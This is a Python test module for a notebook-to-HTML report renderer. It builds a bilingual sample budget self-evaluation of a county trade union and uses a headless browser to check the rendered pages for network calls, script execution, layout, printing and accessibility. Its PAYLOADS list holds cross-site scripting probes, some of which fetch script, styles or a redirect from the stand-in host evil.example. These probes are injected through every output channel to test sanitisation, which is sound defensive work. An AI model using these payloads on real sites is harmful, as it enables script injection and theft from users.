"""A notebook with one of everything a report can hold, and a browser that judges finished pages."""

from __future__ import annotations

import base64
import io
import os
import re
import shutil
import warnings
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import matplotlib as mpl
import pandas as pd
from bs4 import BeautifulSoup
from matplotlib.figure import Figure
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

HOSTILE = "<script>alert(1)</script><img src=x onerror=alert(2)><a href='javascript:alert(3)'>税务局</a>"

# -- the gallery ------------------------------------------------------------------------------------------------------


def html_output(fragment: str, **about) -> NotebookNode:
    """Return an output as evallib makes it: finished HTML, and metadata that says whose it is."""
    about = {"kind": "fragment"} | about
    fragment = str(BeautifulSoup(fragment, "html.parser"))  # written as evallib's pieces write
    return new_output("display_data", {"text/html": fragment, "text/plain": "…"}, metadata={"evallib": about})


def output_of(**data) -> NotebookNode:
    """Return an output of an analyst's own code: ``text_html=...`` is its ``text/html``."""
    return new_output("display_data", {name.replace("_", "/", 1): value for name, value in data.items()})


def cell(source: str, *outputs: NotebookNode, tags: tuple[str, ...] = ()) -> NotebookNode:
    """Return an executed code cell."""
    return new_code_cell(source, outputs=list(outputs), metadata={"tags": list(tags)}, execution_count=1)


def prose(source: str, *tags: str) -> NotebookNode:
    """Return a markdown cell, tagged with its language or with none."""
    return new_markdown_cell(source, metadata={"tags": list(tags)})


def drawing() -> str:
    """Return a small bar chart as matplotlib writes SVG, texts as texts."""
    settings = {"svg.fonttype": "none", "svg.hashsalt": "gallery", "font.size": 10}
    with mpl.rc_context(settings), warnings.catch_warnings():
        warnings.simplefilter(
            "ignore", UserWarning
        )  # the machine may have no Chinese font; the page brings its own list
        figure = Figure(figsize=(7.2, 2.8), layout="constrained")
        axes = figure.add_subplot()
        axes.barh(["公用经费", "人员经费", "项目支出"][::-1], [57.20, 116.62, 14.52][::-1], color="#1d4f7c", height=0.6)
        axes.bar_label(axes.containers[0], fmt="%.2f", padding=3)
        axes.set_xlabel("万元")
        axes.spines[["top", "right"]].set_visible(False)
        axes.set_title("2022年支出构成", fontweight="bold", loc="left")
        written = io.StringIO()
        figure.savefig(written, format="svg", metadata={"Date": None})
    return written.getvalue()


def bitmap() -> str:
    """Return a plot as JupyterLab keeps it: a PNG in base64."""
    figure = Figure(figsize=(5, 2))
    figure.add_subplot().plot([3, 1, 2])
    written = io.BytesIO()
    figure.savefig(written, format="png", dpi=80)
    return base64.b64encode(written.getvalue()).decode() + "\n"


def chart(alt: str, caption: str, table: str) -> NotebookNode:
    """Return a chart as evallib makes it."""
    about = {"kind": "chart", "alt": alt, "caption": caption, "table": table}
    data = {"image/svg+xml": drawing(), "image/png": bitmap(), "text/plain": caption}
    about["table"] = str(BeautifulSoup(about["table"], "html.parser"))
    return new_output("display_data", data, metadata={"evallib": about})


def grid(caption: str, head: list[str], rows: list[tuple[str, list[str]]]) -> str:
    """Return a table as evallib makes it; a row is its kind and its cells, a cell may name its class before a bar."""

    def data(text: str) -> str:
        kind, _, shown = text.rpartition("|")
        return f'<td class="{kind or "num"}">{shown}</td>'

    numeric = [all(cells[n].rpartition("|")[0] != "text" for _, cells in rows) for n in range(len(head))]
    columns = "".join(
        f'<th scope="col"{" class=num" * (n > 0 and numeric[n])}>{text}</th>' for n, text in enumerate(head)
    )
    body = "".join(
        f'<tr class="{kind}"><th scope="row">{cells[0]}</th>{"".join(map(data, cells[1:]))}</tr>'
        for kind, cells in rows
    )
    return (
        f'<div class="scroll" tabindex="0" role="region" aria-label="{caption}">'
        f'<table class="grid"><caption>{caption}</caption>'
        f"<thead><tr>{columns}</tr></thead><tbody>{body}</tbody></table></div>"
    )


def finding(outcome: str, said: str, title: str, text: str, formula: str, ask: str, where: str) -> str:
    """Return one finding of the checks."""
    return (
        f'<li><article class="finding {outcome}">'
        f'<h3>{title} <span class="outcome {outcome}">{said}</span></h3><p>{text}</p>'
        f'<p class="formula">{formula}</p><p class="ask">{ask}</p><p class="where">{where}</p></article></li>'
    )


def gallery(lang: str = "zh", *, failed: bool = False) -> NotebookNode:
    """Return an executed notebook with one of everything.

    Args:
        lang: the page's language.
        failed: whether a step ends in an error.
    """
    t = TEXTS[lang]
    frame = pd.DataFrame({"单位": ["本级", HOSTILE], "金额": [93.02, -6.6], "占比": ["93.37%", "6.63%"]})
    head, rows = t["money"]
    table = grid(t["table"], head, rows)
    wide_head, wide_rows = t["wide"]
    cells = [
        cell("department = 'ftu'", tags=("parameters",)),
        cell("department = '\\u603b\\u5de5\\u4f1a'", tags=("injected-parameters",)),
        prose("# 部门整体支出绩效自评报告", "zh"),
        prose("# Departmental self-evaluation", "en"),
        cell("from evallib import *\n\ncase = open_case(county, department, year)  # 读入一个部门一年的资料"),
        cell(
            "report(case)",
            html_output(t["hero"], kind="hero", lang=lang, title=t["title"], description=t["lede"], footer=t["footer"]),
        ),
        prose(
            "## 一、资金\n\n**各项支出**与年初预算、调整预算相比。\n没有填报的数字不按零计算，见[原文](https://www.example.gov.cn/a?b=1)。",
            "zh",
        ),
        prose(
            "## 1. Money\n\n**Spending** beside the initial and the revised budget. "
            "A figure not reported is never counted as zero; see the [source](https://www.example.gov.cn/a?b=1).",
            "en",
        ),
        cell("spending_table(case)", html_output(t["say"]), html_output(table), html_output(t["note"])),
        cell(
            "spending_chart(case)",
            chart(t["alt"], t["caption"], grid(t["data"], head[:3], [(k, r[:3]) for k, r in rows[1:5]])),
        ),
        prose("### （一）各月支出", "zh"),
        prose("### 1.1 Month by month", "en"),
        cell("months(case)", html_output(grid(t["wide_table"], wide_head, wide_rows))),
        cell("spending_chart(case, 2)", chart(t["alt"], "", "")),
        prose("## 二、核对结果", "zh"),
        prose("## 2. What the checks found", "en"),
        cell("findings(case)", html_output(t["findings"])),
        cell("outcomes(case)", html_output(t["outcomes"])),
        prose("### （二）基本情况", "zh"),
        prose("### 2.1 Facts", "en"),
        cell("facts(case)", html_output(t["facts"])),
        prose("## 三、分析人员自己的内容", "zh"),
        prose("## 3. An analyst's own work", "en"),
        prose(
            f"> 引文 Quotation {HOSTILE}\n\n1. one `code`\n2. two\n\n"
            "| 项目 | 金额 |\n|---|--:|\n| 印刷费 | 1.60 |\n\n```python\nx = 1\n```"
        ),
        cell(
            "frame",
            new_output("execute_result", {"text/html": frame.to_html(), "text/plain": str(frame)}, execution_count=9),
        ),
        cell(
            "frame.style.bar()",
            new_output(
                "execute_result",
                {
                    "text/html": frame.style.bar(subset=["金额"], color="#9db8d2").to_html(),
                    "text/plain": "<Styler at 0x7f12>",
                },
            ),
        ),
        cell(
            "plot()",
            new_output("execute_result", {"text/plain": "[<matplotlib.lines.Line2D at 0x7f0000000000>]"}),
            new_output("display_data", {"image/png": bitmap(), "text/plain": "<Figure>"}),
        ),
        cell(
            "print(1)",
            new_output("stream", name="stdout", text="合计 "),
            new_output("stream", name="stderr", text="/home/someone/x.py:1: FutureWarning"),
            new_output("stream", name="stdout", text="189.21 <b>\n"),
        ),
    ]
    if failed:
        banner = prose(
            "<span style='color:red'>An Exception was encountered at 'In [7]'.</span>", "papermill-error-cell-tag"
        )
        wrong = new_output(
            "error",
            ename="ValueError",
            evalue="items.csv：缺少 <金额> 列\nthe column is missing",
            traceback=["\x1b[31m/home/someone"],
        )
        cells = [banner, *cells, cell("1/0", wrong)]
    return new_notebook(
        cells=cells, metadata={"language_info": {"name": "python"}, "papermill": {"parameters": {"lang": lang}}}
    )


# -- hostile texts, and the ways by which they may come into a page ---------------------------------------------------

PAYLOADS = [
    HOSTILE,
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src='https://evil.example/a.png' onload=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<a href='java\tscript:alert(1)'>a</a><a href='data:text/html,<script>alert(1)</script>'>b</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object>",
    "<embed src=x><base href='//evil.example'>",
    "<form action='//evil.example'><button formaction='javascript:alert(1)'>x</button></form>",
    "<p style=\"background:url('https://evil.example/a')\">x</p><p style='background:u\\72l(//evil.example)'>y</p>",
    "<style>@import '//evil.example/a.css'; #x{background:url(//evil.example)}</style><p id=x>x</p>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "</pre></main></body><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '" onmouseover="alert(1)" x="',
    "<meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil.example>",
]

WAYS = {
    "markdown cell": prose,
    "markdown heading": lambda text: prose(f"## {text}"),
    "markdown link": lambda text: prose(f"[a]({text}) ![b]({text})"),
    "markdown output": lambda text: cell("a", output_of(text_markdown=text)),
    "HTML output": lambda text: cell("a", output_of(text_html=text)),
    "Styler": lambda text: cell("a", output_of(text_html=pd.DataFrame({text: [text]}).style.to_html())),
    "DataFrame": lambda text: cell("a", output_of(text_html=pd.DataFrame({text: [text]}).to_html())),
    "plain output": lambda text: cell("a", output_of(text_plain=text)),
    "printed": lambda text: cell("a", new_output("stream", text=text)),
    "error": lambda text: cell("a", new_output("error", ename="E", evalue=text, traceback=[text])),
    "code": cell,
    "alt and caption": lambda text: cell("a", chart(text, text, "")),
    "drawing": lambda text: cell(
        "a", output_of(**{"image_svg+xml": f"<svg viewBox='0 0 9 9'>{text}<g onclick='alert(1)'>{text}</g></svg>"})
    ),
    "bitmap": lambda text: cell("a", output_of(image_png=f'{text}"')),
    "title and footer": lambda text: cell(
        "a", html_output("<p>1</p>", lang="zh", title=text, description=text, footer=text)
    ),
}


def hostile() -> NotebookNode:
    """Return a notebook into which every hostile text comes by every way."""
    return new_notebook(cells=[way(payload) for payload in PAYLOADS for way in WAYS.values()])


# -- the judge --------------------------------------------------------------------------------------------------------

BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable", "microsoft-edge", "msedge")
WIDTHS = (1280, 360)
SMALLEST_LETTERS = 9  # px, in charts

OVERFLOW = "() => document.documentElement.scrollWidth - document.documentElement.clientWidth"
CHART_LETTERS = """() => [...document.querySelectorAll(".chart svg text")].map(text => {
    const drawing = text.ownerSVGElement;
    const scale = drawing.getBoundingClientRect().width / drawing.viewBox.baseVal.width;
    return parseFloat(getComputedStyle(text).fontSize) * scale;
})"""
HIDDEN = "(selector) => [...document.querySelectorAll(selector)].filter(e => !e.getClientRects().length).length"


def find_browser() -> str | None:
    """Return a Chromium to test with: the one named in EVALLIB_CHROMIUM, or any that is installed."""
    return os.environ.get("EVALLIB_CHROMIUM") or next(filter(None, map(shutil.which, BROWSERS)), None)


@contextmanager
def chromium() -> Iterator:
    """Start the browser, without it calling home; close it in the end."""
    from playwright.sync_api import sync_playwright

    quiet = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=find_browser(), args=quiet)
        yield browser
        browser.close()


def check_page(page_path: Path, browser=None) -> list[str]:
    """Return everything that is wrong with a finished page, empty when nothing is.

    The page is opened as a colleague does it, from a file and offline, with scripts and without, in the light and the dark
    theme: nothing may be asked of the network, no rule of the page's own policy broken, nothing wider than the window, no
    chart with letters too small. The switches are worked and figures asked where they are from, by mouse and by keyboard;
    the page is printed; axe looks at it in both themes, with the policy lifted.

    Args:
        page_path: the HTML file.
        browser: one that runs already; without it, one is started for this page.
    """
    if browser is None:
        with chromium() as started:
            return check_page(page_path, started)
    problems = []

    def seen(name: str, look, **how) -> None:
        context = browser.new_context(offline=True, **how)
        page = _opened(context, page_path, problems)
        problems.extend(f"{name}: {problem}" for problem in look(page))
        context.close()

    for width in WIDTHS:
        for scripts, theme in ((False, "light"), (True, "dark")):
            how = {"viewport": {"width": width, "height": 800}, "java_script_enabled": scripts, "color_scheme": theme}
            seen(f"{width} px, {'with' if scripts else 'without'} scripts", lambda page: (*_fit(page), *_switches(page), *_notes(page)), **how)
    seen("print", _paper, java_script_enabled=False, color_scheme="dark")
    seen("light", _accessibility, bypass_csp=True, color_scheme="light")
    seen("dark", _contrast, bypass_csp=True, color_scheme="dark")
    return problems


def _opened(context, page_path: Path, problems: list[str]):
    """Open the page and note whatever it asks for, complains of or pops up."""
    page = context.new_page()
    address = Path(page_path).resolve().as_uri()

    def asked(request) -> None:
        if request.url.split("#")[0] != address and not request.url.startswith("data:"):
            problems.append(f"asks for {request.url}")

    def popped_up(dialog) -> None:
        problems.append(f"a script ran: {dialog.message}")
        dialog.dismiss()

    page.on("request", asked)
    page.on("dialog", popped_up)
    page.on("console", lambda message: problems.append(f"console: {message.text}") if message.type == "error" else None)
    page.on("pageerror", lambda error: problems.append(f"script error: {error}"))
    page.goto(address, wait_until="load")
    return page


def _fit(page) -> Iterator[str]:
    if (excess := page.evaluate(OVERFLOW)) > 0:
        yield f"the page is {excess} px wider than the window"
    letters = page.evaluate(CHART_LETTERS)
    if letters and min(letters) < SMALLEST_LETTERS:
        yield f"chart letters of {min(letters):.1f} px"


def _switches(page) -> Iterator[str]:
    """Work every switch of the page and yield those that do nothing."""
    if page.locator("#show-code").count():
        code = page.locator(".code")
        if code.first.is_visible():
            yield "code is shown before anybody asked"
        page.locator("label[for=show-code]").click()
        if not code.first.is_visible():
            yield "the switch does not show the code"
        yield from _fit(page)
        page.locator("#show-code").press("Space")
        if code.first.is_visible():
            yield "the keyboard does not hide the code"
    for fold in page.locator("details.fold").all():
        if not fold.is_visible():
            continue
        folded = fold.locator("xpath=following-sibling::*[1]")
        before = folded.is_visible()
        fold.locator("summary").click()
        if before or not folded.is_visible():
            yield f"“{fold.inner_text()}” does not unfold"
    yield from _fit(page)


def _notes(page) -> Iterator[str]:
    """Ask a figure of a sentence and one of a table where they are from, by mouse and by keyboard; yield what does not answer."""
    for kind in ("p a.from:visible", "td a.from:visible"):
        links = page.locator(kind)
        if not links.count():
            continue
        link = links.nth(links.count() // 2)
        number = link.get_attribute("href")[1:]
        note = page.locator(f'.notes li[id="{number}"] > span').inner_text()
        shown = page.locator("#tip, .notes li:target > span")
        link.click()
        if not any(one.is_visible() and one.inner_text() == note for one in shown.all()):
            yield f"the figure “{link.inner_text()}” does not say where it is from"
        page.keyboard.press("Escape")
        page.goto(page.url.split("#")[0] + "#main")
        link.focus()
        page.keyboard.press("Enter")
        if not any(one.is_visible() and one.inner_text() == note for one in shown.all()):
            yield f"the figure “{link.inner_text()}” does not answer the keyboard"
        page.keyboard.press("Escape")
        page.goto(page.url.split("#")[0] + "#main")


def _paper(page) -> Iterator[str]:
    """Print the page and yield what is wrong with the sheets."""
    page.emulate_media(media="print")
    if hidden := page.evaluate(HIDDEN, "main > .scroll, .notes li, main figure, main article"):
        yield f"{hidden} tables, figures or findings are left out"
    if shown := page.locator("nav:visible, .code:visible, .skip:visible, details:visible").count():
        yield f"{shown} parts of the screen's furniture are shown"
    sheets = re.findall(rb"/MediaBox\s*\[([\d. ]+)\]", page.pdf(prefer_css_page_size=True))
    sizes = {tuple(round(float(number)) for number in sheet.split()) for sheet in sheets}
    if sizes != {(0, 0, 595, 842)}:
        yield f"sheets of {sizes or 'unknown size'}, not A4"


def _accessibility(page) -> Iterator[str]:
    """Yield what axe finds against WCAG 2.1 A and AA, with everything unfolded."""
    yield from _axe(page, {"runOnly": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa"]})


def _contrast(page) -> Iterator[str]:
    """Yield what axe finds of contrasts too low: nothing else is different in another theme."""
    yield from _axe(page, {"runOnly": {"type": "rule", "values": ["color-contrast"]}})


def _axe(page, rules: dict) -> Iterator[str]:
    try:
        from axe_playwright_python.sync_playwright import Axe
    except ImportError:
        return
    page.evaluate("() => document.querySelectorAll('details').forEach(d => d.open = true)")
    for violation in Axe().run(page, options=rules | {"resultTypes": ["violations"]}).response["violations"]:
        for node in violation["nodes"]:
            yield f"axe: {violation['id']} ({violation['impact']}): {node['html'][:160]}"


# -- the gallery's texts ----------------------------------------------------------------------------------------------

TEXTS = {
    "zh": {
        "title": "桂东县总工会2022年度部门整体支出绩效自评",
        "lede": "全年支出189.21万元，完成调整预算的100.00%；评分91.5分，等级为优；有1处数字不符，2处资料不足。",
        "footer": "金额单位：万元。评分依据：示例方案（2022）。数据：data/guidong/2022/ftu，SHA-256 3f9a…c1。",
        "say": (
            '<p class="say">'
            '全年支出189.21万元，比年初预算多74.55万元，增长65.02%<span class="unverified" title="未核实的口径">'
            '†</span>。预算调整率<span class="formula">(189.21 − 114.66) ÷ 114.66 = 65.02%</span>'
            '，超过10%的上限。</p><ul class="say"><li>人员经费116.62万元，占61.64%。</li>'
            "<li>“三公”经费未填报，不能判断是否下降。</li></ul>"
        ),
        "note": (
            '<p class="note">† 该口径尚未见到正式文件，按通行做法计算。'
            '来源：<a href="https://www.example.gov.cn/art/1.html">财政部 财预〔2020〕10号</a>；'
            '<a href="#s2">核对结果</a>。</p>'
        ),
        "table": "表1　支出预算与决算（万元）",
        "money": (
            ["项目", "年初预算", "调整预算", "决算", "完成率", "说明"],
            [
                ("group", ["一、基本支出", "108.06", "174.68", "174.68", "100.00%", "text|"]),
                (
                    "sub",
                    [
                        "人员经费",
                        "93.02",
                        "116.62",
                        "116.62",
                        "100.00%",
                        "text|含在职人员工资、津贴补贴、绩效工资和社会保障缴费",
                    ],
                ),
                ("sub", ["公用经费", "15.04", "57.20", "57.20", "100.00%", "text|"]),
                ("sub", ["“三公”经费", "gap|未填报", "gap|未填报", "1.35", "gap|无法计算", "text|"]),
                ("group", ["二、项目支出", "6.60", "14.52", "14.52", "100.00%", "text|困难职工帮扶"]),
                ("total", ["合计", "114.66", "189.20", "189.21", "100.01%", "text|尾差0.01"]),
            ],
        ),
        "wide_table": "表2　分月支出（万元）",
        "wide": (
            ["项目", *[f"{m}月" for m in range(1, 13)]],
            [
                ("", ["基本支出", *[f"{14.56 + m:.2f}" for m in range(12)]]),
                ("", ["项目支出", *[f"{m * 0.2:.2f}" for m in range(12)]]),
                ("total", ["合计", *[f"{14.56 + m * 1.2:.2f}" for m in range(12)]]),
            ],
        ),
        "alt": "条形图：人员经费116.62万元最多，公用经费57.20万元，项目支出14.52万元。",
        "caption": "图1　2022年支出构成：人员经费占六成",
        "data": "图1的数据（万元）",
        "hero": (
            '<header class="hero"><p class="kicker">桂东县　2022年度</p>'
            '<h1>桂东县总工会部门整体支出绩效自评</h1><p class="lede">'
            "全年支出189.21万元，完成调整预算的100.00%；评分<strong>91.5分</strong>，等级为优。"
            '有1处数字不符，2处资料不足。</p><dl class="keys">'
            "<div><dt>自评得分</dt><dd>91.5<small>满分100，等级：优</small></dd></div>"
            "<div><dt>全年支出（万元）</dt><dd>189.21<small>年初预算114.66</small></dd></div>"
            "<div><dt>预算完成率</dt><dd>100.01%<small>189.21 ÷ 189.20</small></dd></div>"
            "<div><dt>预算调整率</dt><dd>65.02%<small>上限10%</small></dd></div></dl></header>"
        ),
        "findings": '<ol class="findings">'
        + finding(
            "fail",
            "不符",
            "基本支出各部分之和不等于合计",
            "人员经费、公用经费与“三公”经费相加，比基本支出多14.53万元，正好等于项目支出。",
            "116.62 + 57.20 + 15.39 = 189.21 ≠ 174.68",
            "公用经费57.20万元是否已包含项目支出？请更正后重新填报。",
            "自评报告 第二部分第3段；部门决算公开表 GK06!C12",
        )
        + finding(
            "question",
            "待说明",
            "预算调整率超过上限",
            "调整预算比年初预算多74.54万元。",
            "(189.20 − 114.66) ÷ 114.66 = 65.01%",
            "请说明追加预算的文件依据。",
            "form.xlsx 基础数据!D8",
        )
        + "</ol>"
        + (
            '<article class="finding pass"><h4>支出占比之和为100%</h4><p>两项占比相加，在四舍五入误差之内。'
            '</p><p class="formula">92.33% + 7.67% = 100.00%</p><p class="where">自评报告 第二部分第4段</p>'
            "</article>"
        )
        + '<article class="finding hint"><h4>合计有0.01万元尾差</h4><p>由四舍五入引起，不影响判断。</p></article>'
        + (
            '<article class="finding insufficient_data"><h4>“三公”经费变动率无法核对</h4><p>上年数未填报。'
            "</p></article>"
        )
        + '<article class="finding not_applicable"><h4>政府采购执行率</h4><p>本年无政府采购预算。</p></article>',
        "outcomes": "<p>"
        + " ".join(
            f'<span class="outcome {c}">{n}</span>'
            for c, n in [
                ("pass", "成立"),
                ("fail", "不符"),
                ("hint", "尾差提示"),
                ("question", "待说明"),
                ("insufficient_data", "资料不足"),
                ("not_applicable", "不适用"),
            ]
        )
        + "</p>",
        "facts": (
            '<dl class="facts"><div><dt>单位名称</dt><dd>桂东县总工会</dd></div>'
            "<div><dt>编制人数</dt><dd>在职12人，编制13人</dd></div>"
            "<div><dt>主要职能</dt><dd>维护职工合法权益；组织职工参与民主管理；"
            "开展困难职工帮扶、劳动竞赛和职工文化活动；管理工会经费和资产。</dd></div></dl>"
        ),
    },
    "en": {
        "title": "Guidong County Federation of Trade Unions: self-evaluation of 2022 expenditure",
        "lede": "Spending of 1.8921 million yuan, 100.00% of the revised budget; 91.5 points, grade excellent.",
        "footer": "Amounts in 10,000 yuan. Scheme: example (2022). Data: data/guidong/2022/ftu, SHA-256 3f9a…c1.",
        "say": (
            '<p class="say">The year\'s spending was 189.21, '
            'which is 74.55 or 65.02% more than the initial budget<span class="unverified" title="unverified reading">'
            '†</span>. Budget adjustment rate <span class="formula">'
            '(189.21 − 114.66) ÷ 114.66 = 65.02%</span>, above the ceiling of 10%.</p><ul class="say">'
            "<li>Personnel cost 116.62, or 61.64%.</li><li>The three public expenses were not reported; "
            "whether they fell cannot be told.</li></ul>"
        ),
        "note": (
            '<p class="note">† No official document was seen for this reading; computed by common practice. '
            'Source: <a href="https://www.example.gov.cn/art/1.html">Ministry of Finance, Caiyu [2020] No. '
            '10</a>; <a href="#s2">findings</a>.</p>'
        ),
        "table": "Table 1. Budget and final accounts (10,000 yuan)",
        "money": (
            ["Item", "Initial budget", "Revised budget", "Final accounts", "Completion", "Remark"],
            [
                ("group", ["1. Basic expenditure", "108.06", "174.68", "174.68", "100.00%", "text|"]),
                (
                    "sub",
                    [
                        "Personnel",
                        "93.02",
                        "116.62",
                        "116.62",
                        "100.00%",
                        "text|Wages, allowances, performance pay and social security of staff",
                    ],
                ),
                ("sub", ["Running costs", "15.04", "57.20", "57.20", "100.00%", "text|"]),
                (
                    "sub",
                    [
                        "Three public expenses",
                        "gap|not reported",
                        "gap|not reported",
                        "1.35",
                        "gap|cannot be computed",
                        "text|",
                    ],
                ),
                ("group", ["2. Projects", "6.60", "14.52", "14.52", "100.00%", "text|Support for workers in need"]),
                ("total", ["Total", "114.66", "189.20", "189.21", "100.01%", "text|Rounding 0.01"]),
            ],
        ),
        "wide_table": "Table 2. Spending month by month (10,000 yuan)",
        "wide": (
            ["Item", *"Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()],
            [
                ("", ["Basic", *[f"{14.56 + m:.2f}" for m in range(12)]]),
                ("", ["Projects", *[f"{m * 0.2:.2f}" for m in range(12)]]),
                ("total", ["Total", *[f"{14.56 + m * 1.2:.2f}" for m in range(12)]]),
            ],
        ),
        "alt": "Bar chart: personnel is the largest part with 116.62, running costs 57.20, projects 14.52.",
        "caption": "Figure 1. What the money of 2022 was spent on: six tenths on personnel",
        "data": "Data of figure 1 (10,000 yuan)",
        "hero": (
            '<header class="hero"><p class="kicker">Guidong County, 2022</p>'
            '<h1>Federation of Trade Unions: self-evaluation of departmental expenditure</h1><p class="lede">'
            "Spending of 189.21, which is 100.00% of the revised budget; <strong>91.5 points</strong>, "
            'grade excellent. One figure does not add up, two could not be checked.</p><dl class="keys">'
            "<div><dt>Points</dt><dd>91.5<small>of 100, excellent</small></dd></div>"
            "<div><dt>Spending (10,000 yuan)</dt><dd>189.21<small>initial budget 114.66</small></dd></div>"
            "<div><dt>Budget completion</dt><dd>100.01%<small>189.21 ÷ 189.20</small></dd></div>"
            "<div><dt>Budget adjustment</dt><dd>65.02%<small>ceiling 10%</small></dd></div></dl></header>"
        ),
        "findings": '<ol class="findings">'
        + finding(
            "fail",
            "fail",
            "The parts of basic expenditure do not give its total",
            "Personnel, running costs and the three public expenses together exceed basic expenditure by 14.53, "
            "the amount of the projects.",
            "116.62 + 57.20 + 15.39 = 189.21 ≠ 174.68",
            "Do the running costs of 57.20 include the projects? Please correct and send again.",
            "Report, part 2, paragraph 3; accounts GK06!C12",
        )
        + finding(
            "question",
            "question",
            "The adjustment rate is above the ceiling",
            "The revised budget exceeds the initial one by 74.54.",
            "(189.20 − 114.66) ÷ 114.66 = 65.01%",
            "Which document granted the addition?",
            "form.xlsx Base data!D8",
        )
        + "</ol>"
        + (
            '<article class="finding pass"><h4>The shares add up to 100%</h4><p>Within rounding.</p>'
            '<p class="formula">92.33% + 7.67% = 100.00%</p></article>'
        )
        + (
            '<article class="finding insufficient_data"><h4>Change of the three public expenses</h4>'
            "<p>Last year's figure was not reported.</p></article>"
        ),
        "outcomes": "<p>"
        + " ".join(
            f'<span class="outcome {c}">{n}</span>'
            for c, n in [
                ("pass", "pass"),
                ("fail", "fail"),
                ("hint", "hint"),
                ("question", "question"),
                ("insufficient_data", "insufficient data"),
                ("not_applicable", "not applicable"),
            ]
        )
        + "</p>",
        "facts": (
            '<dl class="facts"><div><dt>Name</dt><dd>Guidong County Federation of Trade Unions</dd></div>'
            "<div><dt>Staff</dt><dd>12 in post, 13 established</dd></div>"
            "<div><dt>Duties</dt><dd>Protects the rights of workers; organises their part in management; "
            "supports those in need; manages the union's funds.</dd></div></dl>"
        ),
    },
}
